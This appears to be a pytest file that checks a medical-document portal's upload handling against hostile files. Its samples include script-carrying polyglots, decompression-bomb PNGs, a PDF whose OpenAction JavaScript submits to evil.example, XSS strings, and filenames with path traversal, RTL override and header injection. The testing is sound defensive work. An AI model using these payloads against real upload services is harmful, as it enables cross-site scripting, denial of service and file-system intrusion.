"""Hostile uploads: polyglots, PDFs with JavaScript, pixel floods, names with paths and markup.

Each is refused, or stored encrypted under a name of our own and only ever served as an
attachment with a safe filename (ASVS 5.0 5.2.2, 5.2.6, 5.3.2, 5.4.1, 5.4.2; v4 12.2.1, 12.3.1).
"""

import io
import re
import struct
import time
import zlib
from urllib.parse import unquote

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from sqlalchemy import select

from portal.models import DocumentVersion, db
from tests import files
from tests.support.cabinet import upload
from tests.support.constants import DOCTOR_PHONE


@pytest.fixture
def signed_in(doctor):
    doctor.log_in(DOCTOR_PHONE)
    return doctor.web


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood(side: int = 30000) -> bytes:
    """A 1-bit PNG of side×side black pixels: a few hundred KB that decode to ~110 MB."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def lying_png(side: int = 60000) -> bytes:
    """A header claiming 60000×60000 pixels over almost no data."""
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + png_chunk(b"IEND", b"")
    )


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(
                "app.alert(1); submitForm('https://evil.example/')"
            ),
        }
    )
    action = writer._add_object(script)
    writer.root_object[NameObject("/OpenAction")] = action
    names = ArrayObject([TextStringObject("pwn"), action])
    tree = DictionaryObject({NameObject("/Names"): names})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_html_polyglot() -> bytes:
    html = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
    pdf = files.pdf()
    return pdf[:9] + b"%" + html + pdf[9:]


def html_posing_as(magic: bytes) -> bytes:
    return magic + b"<html><script>alert(1)</script></html>" + b" " * 200


REFUSED = {
    "an HTML page named .pdf": (b"<!doctype html><script>alert(1)</script>", "page.pdf"),
    "an SVG with script named .png": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "image.png",
    ),
    "a GIF/HTML polyglot": (b"GIF89a/*<script>alert(1)</script>*/=1;", "gif.pdf"),
    "HTML behind a PDF signature": (html_posing_as(b"%PDF-1.7\n"), "fake.pdf"),
    "HTML behind a PNG signature": (html_posing_as(b"\x89PNG\r\n\x1a\n"), "fake.png"),
    "HTML behind a JPEG signature": (html_posing_as(b"\xff\xd8\xff\xe0"), "fake.jpg"),
    "a pixel-flood PNG": (pixel_flood(), "flood.png"),
    "a PNG whose header lies about its size": (lying_png(), "lie.png"),
    "a Windows executable named .pdf": (files.executable(), "setup.pdf"),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_a_hostile_file_is_refused_and_nothing_is_stored(signed_in, cabinet, data_dir, name):
    content, filename = REFUSED[name]
    before = set((data_dir / "files").glob("*")) if (data_dir / "files").exists() else set()
    started = time.perf_counter()
    response = upload(signed_in, "passport", content, filename)
    assert response.status_code == 422, name
    assert time.perf_counter() - started < 5, "refusing must not decode the whole file"
    assert "<script>alert" not in response.text
    with cabinet.app_context():
        assert db.session.scalar(select(DocumentVersion.id)) is None
    after = set((data_dir / "files").glob("*.bin")) if (data_dir / "files").exists() else set()
    assert after <= before


def stored_version(cabinet) -> DocumentVersion:
    with cabinet.app_context():
        return db.session.scalars(
            select(DocumentVersion).order_by(DocumentVersion.id.desc())
        ).first()


def download_filename(response) -> str:
    header = response.headers["Content-Disposition"]
    assert header.startswith("attachment"), header
    star = re.search(r"filename\*=UTF-8''([^;]+)", header)
    plain = re.search(r'filename="?([^";]+)"?', header)
    return unquote(star.group(1)) if star else plain.group(1)


def assert_served_safely(web, version: DocumentVersion, content_type: str) -> str:
    response = web.get(f"/cabinet/documents/file/{version.id}")
    assert response.status_code == 200
    assert response.mimetype == content_type
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
    name = download_filename(response)
    assert "/" not in name and "\\" not in name and not name.startswith(".")
    assert "<" not in name and ">" not in name and '"' not in name
    return name


ACCEPTED = {
    "a PDF with JavaScript and an OpenAction": (pdf_with_javascript(), "js.pdf"),
    "a PDF/HTML polyglot": (pdf_html_polyglot(), "poly.pdf"),
}


@pytest.mark.parametrize("name", list(ACCEPTED))
def test_a_pdf_that_could_carry_script_is_refused_or_only_ever_downloaded(signed_in, cabinet, name):
    content, filename = ACCEPTED[name]
    response = upload(signed_in, "passport", content, filename)
    assert response.status_code in (303, 422), name
    if response.status_code == 303:
        assert_served_safely(signed_in, stored_version(cabinet), "application/pdf")


NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\windows\\win.ini.pdf",
    "/etc/cron.d/evil.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "<script>alert(1)<\\script>.pdf",
    "report\u202egpj.pdf",
    "name\x00.html.pdf",
    "a;filename=evil.html.pdf",
    "Сертификат «Иванова».pdf",
    "." * 300 + ".pdf",
    "x" * 500 + ".pdf",
    "con.pdf",
]


def test_names_with_paths_and_markup_never_reach_the_disk_or_a_page_raw(
    signed_in, cabinet, data_dir
):
    for filename in NAMES:
        response = upload(signed_in, "passport", files.pdf(), filename)
        assert response.status_code == 303, filename
        version = stored_version(cabinet)
        served = assert_served_safely(signed_in, version, "application/pdf")
        assert served.endswith(".pdf") and len(served) <= 110, filename
        assert "\u202e" not in served and "\x00" not in served
        page = signed_in.get("/cabinet/documents/passport").text
        assert "<img src=x" not in page and "<script>alert" not in page
    for path in data_dir.rglob("*"):
        assert not any(word in path.name for word in ("passwd", "onerror", "win.ini", "cron"))
    assert not (data_dir.parent / "etc").exists()
